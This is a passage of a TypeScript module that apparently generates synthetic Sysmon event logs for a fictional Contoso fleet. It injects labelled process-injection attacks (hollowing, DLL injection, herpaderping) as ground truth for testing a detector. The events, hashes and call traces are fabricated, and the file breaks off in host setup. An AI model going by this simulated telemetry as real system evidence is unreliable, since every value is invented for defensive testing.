/**
 * @module `hollowtrace simulate`: a seeded generator of realistic Sysmon telemetry for a small fleet, with background
 * activity and a few injected attacks, in the flat JSON-lines shape of `../shared/datasets/*.sysmon.jsonl.gz`.
 *
 * The background copies what the Security-Datasets captures show around every process start (the creator, csrss.exe
 * and lsass.exe open the child; conhost.exe opens console clients; Program Files and .NET programs create children
 * through their own or JIT frames), plus image loads, connections, file and registry writes, query-only handle
 * opens and csrss.exe `CtrlRoutine` threads: the noise that makes naive injection rules fire. Each attack copies one
 * real recording described in ../shared/datasets/README.md (cited at its builder). Nothing is tuned to the detector.
 *
 * Streaming: events come from a generator that keeps only pending events (a priority queue ordered by time), so an
 * hour of a busy fleet never sits in memory. Pure apart from its own state: the seed and `start` fix the output.
 */
import { Rng, deriveSeed } from './Rng';

// ------------------------------------------------------------------------------------------------ public types

/** The `Channel` of every simulated event. */
export const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';

/** The attack kinds the simulator can inject, each modelled on one real recording. */
export type AttackKind = 'hollowing' | 'remote-thread-dll' | 'shellcode-thread' | 'herpaderping' | 'unbacked-creator';
export const ATTACK_KINDS: readonly AttackKind[] = [
    'hollowing',
    'remote-thread-dll',
    'shellcode-thread',
    'herpaderping',
    'unbacked-creator',
];

/** The ATT&CK technique an attack is meant to be (attack.mitre.org/techniques/T1055). */
export type AttackTechnique = 'T1055' | 'T1055.001' | 'T1055.002' | 'T1055.012';

/** Ground truth for one injected attack. GUIDs are lower case without braces, as incidents report them. */
export interface InjectedAttack {
    kind: AttackKind;
    host: string;
    injectorImage: string;
    targetImage: string;
    injectorGuid: string;
    targetGuid: string;
    technique: AttackTechnique;
    /** ISO time of the first event of the injection itself (after the attack's preparation). */
    at: string;
    /** The real recording the sequence copies. */
    modeledOn: string;
}

/** What to simulate; `seed` and `start` together fix the stream. */
export interface SimulateOptions {
    hosts: number;
    /** Average background events per second per host; each attack adds its own few dozen events on top. */
    eventsPerSecond: number;
    durationSeconds: number;
    attacks: number;
    seed: number;
    /** Simulated time of the first event. */
    start: Date;
    /** Kinds to inject, round-robin; all kinds when absent. */
    attackKinds?: readonly AttackKind[];
}

/**
 * One event in the flat `.sysmon.jsonl` shape: the System fields, then the EventData fields under their Sysmon names,
 * every EventData value a string (as `tools/flatten_sysmon.py` writes them).
 */
export interface FlatSysmonEvent {
    EventID: number;
    Channel: string;
    Computer: string;
    TimeCreated: string;
    EventRecordID: number;
    UtcTime: string;
    [field: string]: string | number;
}

/** A planned simulation: the lazy event stream and the ground truth of its attacks. */
export interface SimulatedStream {
    /** Every iteration regenerates the same events from the seed; events are in time order across hosts. */
    events: Iterable<FlatSysmonEvent>;
    attacks: InjectedAttack[];
    hosts: string[];
    startMs: number;
    endMs: number;
}

const MAX_HOSTS = 10_000;
const MAX_EVENTS_PER_SECOND = 100_000;
/** Attack preparations (the dropper started, the DLL written) need some simulated time before the injection. */
const MIN_ATTACK_DURATION_SECONDS = 30;

/** Says what is wrong with the options, or `undefined` when they are usable. */
export function validateSimulateOptions(options: SimulateOptions): string | undefined {
    const { hosts, eventsPerSecond, durationSeconds, attacks, seed, start, attackKinds } = options;
    if (!Number.isSafeInteger(hosts) || hosts < 1 || hosts > MAX_HOSTS)
        return `hosts must be an integer from 1 to ${MAX_HOSTS}, got ${hosts}`;
    if (!Number.isFinite(eventsPerSecond) || eventsPerSecond <= 0 || eventsPerSecond > MAX_EVENTS_PER_SECOND) {
        return `eventsPerSecond must be above 0 and at most ${MAX_EVENTS_PER_SECOND}, got ${eventsPerSecond}`;
    }
    if (!Number.isFinite(durationSeconds) || durationSeconds <= 0)
        return `durationSeconds must be above 0, got ${durationSeconds}`;
    if (!Number.isSafeInteger(attacks) || attacks < 0) return `attacks must be a non-negative integer, got ${attacks}`;
    if (attacks > 0 && durationSeconds < MIN_ATTACK_DURATION_SECONDS) {
        return `attacks need a duration of at least ${MIN_ATTACK_DURATION_SECONDS} s (each is prepared before it runs), got ${durationSeconds}`;
    }
    if (!Number.isSafeInteger(seed)) return `seed must be an integer, got ${seed}`;
    if (!(start instanceof Date) || Number.isNaN(start.getTime())) return 'start must be a valid date';
    if (attackKinds !== undefined) {
        if (attackKinds.length === 0) return 'attackKinds must name at least one kind';
        const unknown = attackKinds.filter((kind) => !ATTACK_KINDS.includes(kind));
        if (unknown.length > 0)
            return `unknown attack kinds: ${unknown.join(', ')} (known: ${ATTACK_KINDS.join(', ')})`;
    }
    return undefined;
}

// ------------------------------------------------------------------------------------------------ time

let cachedSecond = Number.NaN;
let cachedPrefix = '';

/** Sysmon `UtcTime` (`YYYY-MM-DD HH:MM:SS.mmm`); the date part is cached per second (this runs per event). */
function utcTime(ms: number): string {
    const second = Math.floor(ms / 1000);
    if (second !== cachedSecond) {
        const iso = new Date(second * 1000).toISOString();
        cachedPrefix = `${iso.slice(0, 10)} ${iso.slice(11, 19)}`;
        cachedSecond = second;
    }
    const millis = ms - second * 1000;
    return `${cachedPrefix}${millis < 10 ? '.00' : millis < 100 ? '.0' : '.'}${millis}`;
}

/** `TimeCreated` in the flat files: ISO 8601 UTC with `Z`. */
function isoOf(utc: string): string {
    return `${utc.slice(0, 10)}T${utc.slice(11)}Z`;
}

// ------------------------------------------------------------------------------------------------ images

interface ImageInfo {
    path: string;
    fileVersion: string;
    description: string;
    product: string;
    company: string;
    originalFileName: string;
    hashes: string;
    signed: boolean;
    signature: string;
    /** A console-subsystem program: it gets a conhost.exe and conhost.exe opens it. */
    console: boolean;
}

/** Stable fake hashes per path (the same file has the same hash on every host and in every run). */
function hashesOf(path: string): string {
    const rng = new Rng(deriveSeed(0x5eed, 'hashes', path.toLowerCase()));
    return `SHA1=${rng.hex(40).toUpperCase()},MD5=${rng.hex(32).toUpperCase()},SHA256=${rng.hex(64).toUpperCase()},IMPHASH=${rng.hex(32).toUpperCase()}`;
}

const WIN_PRODUCT = 'Microsoft® Windows® Operating System';
const MICROSOFT = 'Microsoft Corporation';
const WIN_VERSION = '10.0.19041.3636 (WinBuild.160101.0800)';
const SYS32 = 'C:\\Windows\\System32\\';

interface ImageMeta {
    fileVersion?: string;
    description?: string;
    product?: string;
    company?: string;
    originalFileName?: string;
    signed?: boolean;
    signature?: string;
    console?: boolean;
}

function image(path: string, meta: ImageMeta): ImageInfo {
    const signed = meta.signed ?? true;
    return {
        path,
        fileVersion: meta.fileVersion ?? '-',
        description: meta.description ?? '-',
        product: meta.product ?? '-',
        company: meta.company ?? '-',
        originalFileName: meta.originalFileName ?? '-',
        hashes: hashesOf(path),
        signed,
        signature: meta.signature ?? (signed ? 'Microsoft Windows' : '-'),
        console: meta.console ?? false,
    };
}

function windowsImage(path: string, description: string, originalFileName: string, console = false): ImageInfo {
    return image(path, {
        fileVersion: WIN_VERSION,
        description,
        product: WIN_PRODUCT,
        company: MICROSOFT,
        originalFileName,
        console,
    });
}

const CHROME_DIR = 'C:\\Program Files\\Google\\Chrome\\Application\\';
const CHROME_VERSION = '120.0.6099.130';
/** Chrome keeps its DLLs in a folder named after its version, and runs from there. */
const CHROME_VERSION_DIR = `${CHROME_DIR}${CHROME_VERSION}\\`;
const OFFICE_DIR = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const AGENT_DIR = 'C:\\Program Files\\Contoso\\InventoryAgent\\';
const DEFENDER_DIR = 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\';
const NI_DIR = 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\';
const CLR = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll';
const SYSTEM_NI = `${NI_DIR}System\\36b90e5ba6d9ea1017ac036f93fce3e0\\System.ni.dll`;
const SMA_NI = `${NI_DIR}System.Manaa57fc8cc#\\d380622b9bf8a3812894c27929aadc9c\\System.Management.Automation.ni.dll`;

function chromeImage(path: string, originalFileName: string): ImageInfo {
    return image(path, {
        fileVersion: CHROME_VERSION,
        description: 'Google Chrome',
        product: 'Google Chrome',
        company: 'Google LLC',
        originalFileName,
        signature: 'Google LLC',
    });
}

function officeImage(path: string, description: string, originalFileName: string): ImageInfo {
    return image(path, {
        fileVersion: '16.0.17029.20068',
        description,
        product: 'Microsoft Office',
        company: MICROSOFT,
        originalFileName,
        signature: MICROSOFT,
    });
}

const IMG = {
    csrss: windowsImage(`${SYS32}csrss.exe`, 'Client Server Runtime Process', 'CSRSS.Exe'),
    lsass: windowsImage(`${SYS32}lsass.exe`, 'Local Security Authority Process', 'lsass.exe'),
    services: windowsImage(`${SYS32}services.exe`, 'Services and Controller app', 'services.exe'),
    svchost: windowsImage(`${SYS32}svchost.exe`, 'Host Process for Windows Services', 'svchost.exe'),
    explorer: windowsImage('C:\\Windows\\explorer.exe', 'Windows Explorer', 'EXPLORER.EXE'),
    cmd: windowsImage(`${SYS32}cmd.exe`, 'Windows Command Processor', 'Cmd.Exe', true),
    powershell: windowsImage(
        `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`,
        'Windows PowerShell',
        'PowerShell.EXE',
        true,
    ),
    conhost: windowsImage(`${SYS32}conhost.exe`, 'Console Window Host', 'CONHOST.EXE'),
    notepad: windowsImage(`${SYS32}notepad.exe`, 'Notepad', 'NOTEPAD.EXE'),
    rundll32: windowsImage(`${SYS32}rundll32.exe`, 'Windows host process (Rundll32)', 'RUNDLL32.EXE'),
    dllhost: windowsImage(`${SYS32}dllhost.exe`, 'COM Surrogate', 'dllhost.exe'),
    wmiprvse: windowsImage(`${SYS32}wbem\\WmiPrvSE.exe`, 'WMI Provider Host', 'Wmiprvse.exe'),
    runtimeBroker: windowsImage(`${SYS32}RuntimeBroker.exe`, 'Runtime Broker', 'RuntimeBroker.exe'),
    taskhostw: windowsImage(`${SYS32}taskhostw.exe`, 'Host Process for Windows Tasks', 'taskhostw.exe'),
    searchIndexer: windowsImage(`${SYS32}SearchIndexer.exe`, 'Microsoft Windows Search Indexer', 'SearchIndexer.exe'),
    searchProtocolHost: windowsImage(
        `${SYS32}SearchProtocolHost.exe`,
        'Microsoft Windows Search Protocol Host',
        'SearchProtocolHost.exe',
    ),
    msiexec: windowsImage(`${SYS32}msiexec.exe`, 'Windows® installer', 'msiexec.exe'),
    sppsvc: windowsImage(`${SYS32}sppsvc.exe`, 'Microsoft Software Protection Platform Service', 'sppsvc.exe'),
    mmc: windowsImage(`${SYS32}mmc.exe`, 'Microsoft Management Console', 'MMC.EXE'),
    ping: windowsImage(`${SYS32}PING.EXE`, 'TCP/IP Ping Command', 'ping.exe', true),
    ipconfig: windowsImage(`${SYS32}ipconfig.exe`, 'IP Configuration Utility', 'ipconfig.exe', true),
    whoami: windowsImage(`${SYS32}whoami.exe`, 'whoami - displays logged on user information', 'whoami.exe', true),
    tasklist: windowsImage(`${SYS32}tasklist.exe`, 'Lists the current running tasks', 'tasklist.exe', true),
    hostname: windowsImage(`${SYS32}HOSTNAME.EXE`, 'Hostname APP', 'hostname.exe', true),
    nslookup: windowsImage(`${SYS32}nslookup.exe`, 'nslookup', 'nslookup.exe', true),
    net: windowsImage(`${SYS32}net.exe`, 'Net Command', 'net.exe', true),
    logman: windowsImage(`${SYS32}logman.exe`, 'Performance Monitor', 'Logman.exe', true),
    wevtutil: windowsImage(`${SYS32}wevtutil.exe`, 'Eventing Command Line Utility', 'wevtutil.exe', true),
    msmpeng: image(`${DEFENDER_DIR}MsMpEng.exe`, {
        fileVersion: '4.18.23110.3 (WinBuild.160101.0800)',
        description: 'Antimalware Service Executable',
        product: WIN_PRODUCT,
        company: MICROSOFT,
        originalFileName: 'MsMpEng.exe',
    }),
    chrome: chromeImage(`${CHROME_DIR}chrome.exe`, 'chrome.exe'),
    winword: officeImage(`${OFFICE_DIR}WINWORD.EXE`, 'Microsoft Word', 'WinWord.exe'),
    excel: officeImage(`${OFFICE_DIR}EXCEL.EXE`, 'Microsoft Excel', 'Excel.exe'),
    // A .NET management agent installed in Program Files: its children are created from JIT code.
    agent: image(`${AGENT_DIR}InventoryAgent.exe`, {
        fileVersion: '3.2.1.0',
        description: 'Contoso Inventory Agent',
        product: 'Contoso Endpoint Inventory',
        company: 'Contoso Ltd.',
        originalFileName: 'InventoryAgent.exe',
        signature: 'Contoso Ltd.',
    }),
    sqlservr: image('C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', {
        fileVersion: '2019.0150.4345.05',
        description: 'SQL Server Windows NT - 64 Bit',
        product: 'Microsoft SQL Server',
        company: MICROSOFT,
        originalFileName: 'sqlservr.exe',
        signature: 'Microsoft Corporation',
    }),
};

function systemDll(name: string, description: string): ImageInfo {
    return windowsImage(`${SYS32}${name}`, description, name);
}

const DLL = {
    ntdll: systemDll('ntdll.dll', 'NT Layer DLL'),
    kernel32: systemDll('kernel32.dll', 'Windows NT BASE API Client DLL'),
    kernelbase: systemDll('KernelBase.dll', 'Windows NT BASE API Client DLL'),
    chromeElf: chromeImage(`${CHROME_VERSION_DIR}chrome_elf.dll`, 'chrome_elf.dll'),
    chromeDll: chromeImage(`${CHROME_VERSION_DIR}chrome.dll`, 'chrome.dll'),
    mso: officeImage(`${OFFICE_DIR}mso20win32client.dll`, 'Microsoft Office 2016 component', 'mso20win32client.dll'),
    clr: image(CLR, {
        fileVersion: '4.8.4645.0 built by: NET48REL1LAST_B',
        description: 'Microsoft .NET Runtime Common Language Runtime - WorkStation',
        product: 'Microsoft® .NET Framework',
        company: MICROSOFT,
        originalFileName: 'clr.dll',
        signature: 'Microsoft Corporation',
    }),
    mscoree: systemDll('mscoree.dll', 'Microsoft .NET Runtime Execution Engine'),
    // NGen images are not signed: Sysmon reports them Signed false (schtask_create, powershell.exe loading System.Dynamic.ni.dll).
    smaNi: image(SMA_NI, {
        fileVersion: '10.0.19041.3636',
        description: 'System.Management.Automation',
        product: WIN_PRODUCT,
        company: MICROSOFT,
        originalFileName: 'System.Management.Automation.dll',
        signed: false,
    }),
    systemNi: image(SYSTEM_NI, {
        fileVersion: '4.8.4645.0 built by: NET48REL1LAST_B',
        description: '.NET Framework',
        product: 'Microsoft® .NET Framework',
        company: MICROSOFT,
        originalFileName: 'System.dll',
        signed: false,
    }),
};

const COMMON_DLLS: readonly ImageInfo[] = [
    systemDll('advapi32.dll', 'Advanced Windows 32 Base API'),
    systemDll('msvcrt.dll', 'Windows NT CRT DLL'),
    systemDll('sechost.dll', 'Host for SCM/SDDL/LSA Lookup APIs'),
    systemDll('rpcrt4.dll', 'Remote Procedure Call Runtime'),
    systemDll('combase.dll', 'Microsoft COM for Windows'),
    systemDll('user32.dll', 'Multi-User Windows USER API Client DLL'),
    systemDll('win32u.dll', 'Win32u'),
    systemDll('gdi32.dll', 'GDI Client DLL'),
    systemDll('ole32.dll', 'Microsoft OLE for Windows'),
    systemDll('shell32.dll', 'Windows Shell Common Dll'),
    systemDll('bcrypt.dll', 'Windows Cryptographic Primitives Library'),
    systemDll('crypt32.dll', 'Crypto API32'),
    systemDll('ws2_32.dll', 'Windows Socket 2.0 32-Bit DLL'),
    systemDll('mswsock.dll', 'Microsoft Windows Sockets 2.0 Service Provider'),
    systemDll('dnsapi.dll', 'DNS Client API DLL'),
    systemDll('winhttp.dll', 'Windows HTTP Services'),
    systemDll('wininet.dll', 'Internet Extensions for Win32'),
    systemDll('iphlpapi.dll', 'IP Helper API'),
    systemDll('uxtheme.dll', 'Microsoft UxTheme Library'),
    systemDll('dwmapi.dll', 'Microsoft Desktop Window Manager API'),
    systemDll('wldp.dll', 'Windows Lockdown Policy'),
    systemDll('amsi.dll', 'Anti-Malware Scan Interface'),
];

// ------------------------------------------------------------------------------------------------ call traces

// Windows 10 19045 x64 offsets; Sysmon writes no symbols, so a frame is `<module path>+<hex offset>`, innermost first.
const NT = 'C:\\Windows\\SYSTEM32\\ntdll.dll';
const KB = 'C:\\Windows\\System32\\KERNELBASE.dll';
const K32 = 'C:\\Windows\\System32\\KERNEL32.DLL';
const RPC = 'C:\\Windows\\System32\\RPCRT4.dll';

function frames(module: string, offsets: readonly string[]): string {
    return offsets.map((offset) => `${module}+${offset}`).join('|');
}

/** NtCreateUserProcess reached through CreateProcessInternalW and CreateProcessW (ntdll|KERNELBASE|KERNELBASE|KERNEL32). */
const CREATE_HEAD = `${NT}+9d8e4|${KB}+5f2ea|${KB}+5bc86|${K32}+1be93`;
/** The base of every thread: BaseThreadInitThunk, RtlUserThreadStart. */
const THREAD_BASE = `${K32}+17bd4|${NT}+6ce51`;
/** NtOpenProcess through OpenProcess. */
const OPEN_HEAD = `${NT}+9d364|${KB}+305ee`;
const RPC_DISPATCH = `${frames(RPC, ['76963', 'da036', '37a5c', '548d8', '2c8a1', '2c15b', '1a7bf', '19c6a', '19251', '18cbe', '168f5'])}|${NT}+333ed|${NT}+34142|${THREAD_BASE}`;
const MPSVC = `${DEFENDER_DIR}mpsvc.dll`;

const TRACE = {
    explorerCreate: `${CREATE_HEAD}|${frames(`${SYS32}windows.storage.dll`, ['1d6e3b', '1d5a27'])}|${frames(`${SYS32}SHELL32.dll`, ['b2a71', 'b1f3c'])}|${frames('C:\\Windows\\Explorer.EXE', ['a8d2c', 'a7f21', '4e1d8'])}|${SYS32}SHCORE.dll+3b5a5|${THREAD_BASE}`,
    cmdCreate: `${CREATE_HEAD}|${frames('C:\\Windows\\system32\\cmd.exe', ['134fb', '149f7', 'c0c1', 'b5e1', '124e4', '1822d'])}|${THREAD_BASE}`,
    servicesCreate: `${CREATE_HEAD}|${frames('C:\\Windows\\system32\\services.exe', ['ba14', 'f347', 'ce09', '2b6d4', '1b9e7'])}|${RPC_DISPATCH}`,
    dcomCreate: `${NT}+9d8e4|${KB}+5e4c0|${KB}+5b593|${K32}+1c71f|${frames('c:\\windows\\system32\\rpcss.dll', ['387c2', '3f716', '3f4a6'])}|${RPC_DISPATCH}`,
    scheduleCreate: `${CREATE_HEAD}|${frames('c:\\windows\\system32\\schedsvc.dll', ['7d3a1', '7c9e2', '5a1f3', '5a0d8'])}|${NT}+2f655|${NT}+345b4|${THREAD_BASE}`,
    indexerCreate: `${CREATE_HEAD}|${frames('C:\\Windows\\system32\\MSSRCH.DLL', ['6c98e', '2fe5f', '2f40c', '38882', 'b144d'])}|${THREAD_BASE}`,
    chromeCreate: `${CREATE_HEAD}|${frames(DLL.chromeDll.path, ['2e3c1a4', '2e3b7f0', '1f3c2b1', '1f3a9e6'])}|${frames(IMG.chrome.path, ['1a2b4', '19f10'])}|${THREAD_BASE}`,
    officeCreate: `${CREATE_HEAD}|${frames(DLL.mso.path, ['12e4c1', '12d9a7'])}|${frames(IMG.winword.path, ['3c21', '2f1e'])}|${THREAD_BASE}`,
    // csrss.exe opens every new process while CreateProcess registers it (basesrv), and console hosts on connect.
    csrssCreate: `${NT}+9d364|C:\\Windows\\system32\\basesrv.DLL+2fba|C:\\Windows\\SYSTEM32\\CSRSRV.dll+5af4|${NT}+6ce5f`,
    csrssConnect: `${NT}+9d154|C:\\Windows\\SYSTEM32\\CSRSRV.dll+1430|C:\\Windows\\SYSTEM32\\CSRSRV.dll+5fd9|${NT}+6ce5f`,
    lsassToken: `${NT}+9d364|${frames('C:\\Windows\\system32\\lsasrv.dll', ['179a6', '1852f', '17814'])}|C:\\Windows\\SYSTEM32\\SspiSrv.dll+1a72|${RPC_DISPATCH}`,
    lsassQuery: `${NT}+9d154|${RPC}+2d354|C:\\Windows\\system32\\lsasrv.dll+176b9|C:\\Windows\\SYSTEM32\\SspiSrv.dll+1a72|${RPC_DISPATCH}`,
    conhostClient: `${OPEN_HEAD}|${frames('C:\\Windows\\system32\\conhost.exe', ['1297d', '12875', '8ccc', 'f656'])}|${THREAD_BASE}`,
    pcaOpen: `${OPEN_HEAD}|${frames('c:\\windows\\system32\\pcasvc.dll', ['13827', 'f736', '16844'])}|${THREAD_BASE}`,
    rpcssQuery: `${OPEN_HEAD}|${frames('c:\\windows\\system32\\rpcss.dll', ['47e62', '47e23'])}|${RPC_DISPATCH}`,
    psmQuery: `${OPEN_HEAD}|${frames(`${SYS32}psmserviceexthost.dll`, ['222a3', '37ea0', '37929', '686f8'])}|${THREAD_BASE}`,
    themeQuery: `${NT}+9d364|${frames('c:\\windows\\system32\\themeservice.dll', ['1d60', '1595', '1461', '1886'])}|${NT}+2f655|${NT}+345b4|${THREAD_BASE}`,
    themeOpen: `${NT}+9d364|${frames('c:\\windows\\system32\\themeservice.dll', ['1a9a', '1736', '6026', 'ad9a', '9dcf'])}|${SYS32}svchost.exe+314c|${SYS32}sechost.dll+2de2|${THREAD_BASE}`,
    explorerQuery: `${OPEN_HEAD}|${SYS32}TWINAPI.dll+6cd3|${frames('C:\\Windows\\system32\\twinui.pcshell.dll', ['20880', '20082'])}|${frames('C:\\Windows\\system32\\twinui.dll', ['1780b', '1734c', '68f7a'])}|${frames(`${SYS32}USER32.dll`, ['15c1d', '15612'])}|${frames(`${SYS32}windows.immersiveshell.serviceprovider.dll`, ['45f0', '41b9', '3e4f'])}|${THREAD_BASE}`,
    defenderQuery: `${OPEN_HEAD}|${frames(MPSVC, ['19c1f3', 'ebc9e', 'eba1c', '1b2d40'])}|${THREAD_BASE}`,
    /** PowerShell's query-only open through System.ni.dll (empire_dllinjection rid 1780495); JIT frame appended per event. */
    managedQuery: `${NT}+9c534|${KB}+2726e|${frames(SYSTEM_NI, ['381f60', '2fa12e', '2f956f', '2b7465', '2c37a4'])}`,
};

function unknownFrame(address: string): string {
    return `UNKNOWN(${address})`;
}

/** powershell.exe creating a child: Process.Start in System.ni.dll called from the JIT-compiled pipeline (schtask_create). */
function powershellCreateTrace(jit: string): string {
    return `${CREATE_HEAD}|${frames(SYSTEM_NI, ['384236', '2c4809', '2c4179'])}|${frames(SMA_NI, ['5a2ebaf9', '5a242dba', '5a2cd3ed'])}|${unknownFrame(jit)}`;
}

/** The .NET agent creating a child: the same Process.Start path, entered from JIT code through the CLR. */
function agentCreateTrace(jit: string): string {
    return `${CREATE_HEAD}|${frames(SYSTEM_NI, ['384236', '2c4809', '2c4179'])}|${CLR}+1d2f4|${unknownFrame(jit)}`;
}

/** A program creating a child from its own code (module-backed, through its own image). */
function ownCreateTrace(path: string): string {
    return `${CREATE_HEAD}|${path}+1a2f|${path}+19e3|${THREAD_BASE}`;
}

// ------------------------------------------------------------------------------------------------ hosts and processes

interface Session {
    user: string;
    logonGuid: string;
    logonId: string;
    terminalSessionId: string;
    integrity: string;
}

/** What background behaviour a process has (and which creation trace its children get). */
type Role =
    | 'system'
    | 'services'
    | 'dcom'
    | 'schedule'
    | 'theme'
    | 'netsvc'
    | 'pca'
    | 'indexer'
    | 'defender'
    | 'agent'
    | 'sql'
    | 'lsass'
    | 'csrss'
    | 'shell'
    | 'cmd'
    | 'powershell'
    | 'browser'
    | 'renderer'
    | 'office'
    | 'gui'
    | 'tool'
    | 'service'
    | 'conhost'
    | 'attack';

interface Proc {
    guid: string;
    pid: string;
    image: ImageInfo;
    commandLine: string;
    cwd: string;
    session: Session;
    role: Role;
    startMs: number;
    endMs: number;
    /** The conhost.exe of a console program. */
    console: Proc | undefined;
    ownsConsole: boolean;
    /** The CallTrace of this process's creator access when it starts a child. */
    createTrace: string;
}

interface HostProfile {
    index: number;
    name: string;
    server: boolean;
    guidPrefix: string;
    guidSuffix: string;
    ip: string;
    userName: string;
    domainSid: string;
    recordStart: number;
    /** KERNELBASE!CtrlRoutine and KERNEL32!LoadLibraryA: fixed per boot (ASLR is per boot for system DLLs). */
    ctrlRoutineAddress: string;
    loadLibraryAddress: string;
    sessions: {
        system: Session;
        localService: Session;
        networkService: Session;
        user: Session;
        userLow: Session;
        admin: Session;
    };
    procs: {
        csrss: Proc;
        lsass: Proc;
        services: Proc;
        explorer: Proc;
        dcom: Proc;
        schedule: Proc;
        theme: Proc;
        netsvcs: Proc;
        pca: Proc;
        psm: Proc;
        msmpeng: Proc;
        agent: Proc;
        indexer: Proc | undefined;
        sql: Proc | undefined;
    };
    /** Long-running processes that background activity may touch. */
    longRunning: Proc[];
    /** GUID counters: background and attack processes draw from disjoint ranges, so GUIDs never collide. */
    backgroundCounter: number;
    attackCounter: number;
}

const DOMAIN = 'CONTOSO';
const FQDN = 'contoso.local';
const USERS = [
    'jdoe',
    'asmith',
    'mgarcia',
    'lchen',
    'pnovak',
    'kwalker',
    'rpatel',
    'ebrown',
    'tnguyen',
    'okim',
    'sjohnson',
    'dmiller',
    'fmartin',
    'hcosta',
];
const DOCS = [
    'Q3-report',
    'budget-2024',
    'meeting-notes',
    'roadmap',
    'invoice-4471',
    'onboarding',
    'vendor-list',
    'minutes',
];
const CONHOST_COMMAND = '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1';

function hex4(n: number): string {
    return (n & 0xffff).toString(16).padStart(4, '0');
}

/** Sysmon's Windows 10 ProcessGuid layout: machine part, process start time (seconds), a per-boot counter, boot part. */
function processGuid(host: { guidPrefix: string; guidSuffix: string }, ms: number, counter: number): string {
    const seconds = Math.floor(ms / 1000) >>> 0;
    const swapped = ((counter & 0xff) << 8) | ((counter >>> 8) & 0xff);
    return `{${host.guidPrefix}-${hex4(seconds & 0xffff)}-${hex4(seconds >>> 16)}-${hex4(swapped)}-${host.guidSuffix}}`;
}

/** A process as it starts: no console attached yet and no end planned. */
function startedProcess(p: Omit<Proc, 'endMs' | 'console' | 'ownsConsole'>): Proc {
    return Object.assign(p, { endMs: Number.POSITIVE_INFINITY, console: undefined, ownsConsole: false });
}

function bareGuid(guid: string): string {
    return guid.slice(1, -1).toLowerCase();
}

function upperHex(rng: Rng, digits: number): string {
    return rng.hex(digits).toUpperCase();
}

function jitAddress(rng: Rng): string {
    return `00007FF${upperHex(rng, 9)}`;
}

function makeSession(
    rng: Rng,
    host: { guidPrefix: string },
    user: string,
    logonId: string,
    session: string,
    integrity: string,
): Session {
    const logonHex = logonId.slice(2).padStart(8, '0');
    // The logon id's bytes, little-endian, end the LogonGuid: 0x3e7 -> {...-e703-000000000000}.
    const logonGuid = `{${host.guidPrefix}-${rng.hex(4)}-${rng.hex(4)}-${logonHex.slice(6, 8)}${logonHex.slice(4, 6)}-${logonHex.slice(2, 4)}${logonHex.slice(0, 2)}00000000}`;
    return { user, logonGuid, logonId, terminalSessionId: session, integrity };
}

function hostName(server: boolean, ordinal: number): string {
    return `${server ? 'SRV' : 'WS'}-${String(ordinal).padStart(4, '0')}.${FQDN}`;
}

/** Builds the static part of a host: names, sessions and the processes that run from boot (no EID 1 in the stream). */
function makeHostProfile(index: number, server: boolean, name: string, seed: number, startMs: number): HostProfile {
    const rng = new Rng(deriveSeed(seed, 'host-profile', index));
    const guidPrefix = rng.hex(8);
    const userName = server ? `adm-${rng.pick(USERS)}` : rng.pick(USERS);
    const partial = { guidPrefix };
    const bootMs = startMs - rng.range(2 * 3600_000, 12 * 24 * 3600_000);
    const logonMs = bootMs + rng.range(60_000, 600_000);
    const userLogonId = `0x${rng.range(0x100000, 0x2ffffff).toString(16)}`;
    const domainUser = `${DOMAIN}\\${userName}`;
    const terminalSession = server ? '2' : '1';
    const sessions = {
        system: makeSession(rng, partial, 'NT AUTHORITY\\SYSTEM', '0x3e7', '0', 'System'),
        localService: makeSession(rng, partial, 'NT AUTHORITY\\LOCAL SERVICE', '0x3e5', '0', 'System'),
        networkService: makeSession(rng, partial, 'NT AUTHORITY\\NETWORK SERVICE', '0x3e4', '0', 'System'),
        user: makeSession(rng, partial, domainUser, userLogonId, terminalSession, 'Medium'),
        userLow: makeSession(rng, partial, domainUser, userLogonId, terminalSession, 'Low'),
        admin: makeSession(
            rng,
            partial,
            domainUser,
            `0x${(parseInt(userLogonId.slice(2), 16) + 0x2d).toString(16)}`,
            terminalSession,
            'High',
        ),
    };
    const ids = { guidPrefix, guidSuffix: `00000000${rng.pick(['04', '05', '07', '0b', '0c'])}00` };
    let bootCounter = 4;
    const boot = (
        offsetMs: number,
        img: ImageInfo,
        commandLine: string,
        session: Session,
        role: Role,
        createTrace?: string,
    ): Proc =>
        startedProcess({
            guid: processGuid(ids, bootMs + offsetMs, (bootCounter += rng.range(1, 3))),
            pid: String(rng.range(100, 2000) * 4),
            image: img,
            commandLine,
            cwd: 'C:\\Windows\\system32\\',
            session,
            role,
            startMs: bootMs + offsetMs,
            createTrace: createTrace ?? ownCreateTrace(img.path),
        });
    const system = sessions.system;
    const svchost = (group: string, session: Session, role: Role, trace?: string): Proc =>
        boot(
            rng.range(2_000, 9_000),
            IMG.svchost,
            `C:\\Windows\\system32\\svchost.exe -k ${group}`,
            session,
            role,
            trace,
        );
    const procs: HostProfile['procs'] = {
        csrss: boot(
            400,
            IMG.csrss,
            '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16',
            system,
            'csrss',
        ),
        lsass: boot(900, IMG.lsass, 'C:\\Windows\\system32\\lsass.exe', system, 'lsass'),
        services: boot(
            850,
            IMG.services,
            'C:\\Windows\\system32\\services.exe',
            system,
            'services',
            TRACE.servicesCreate,
        ),
        explorer: boot(
            logonMs - bootMs,
            IMG.explorer,
            'C:\\Windows\\Explorer.EXE',
            sessions.user,
            'shell',
            TRACE.explorerCreate,
        ),
        dcom: svchost('DcomLaunch -p', system, 'dcom', TRACE.dcomCreate),
        schedule: svchost('netsvcs -p -s Schedule', system, 'schedule', TRACE.scheduleCreate),
        theme: svchost('netsvcs -p -s Themes', system, 'theme'),
        netsvcs: svchost('netsvcs -p -s wuauserv', system, 'netsvc'),
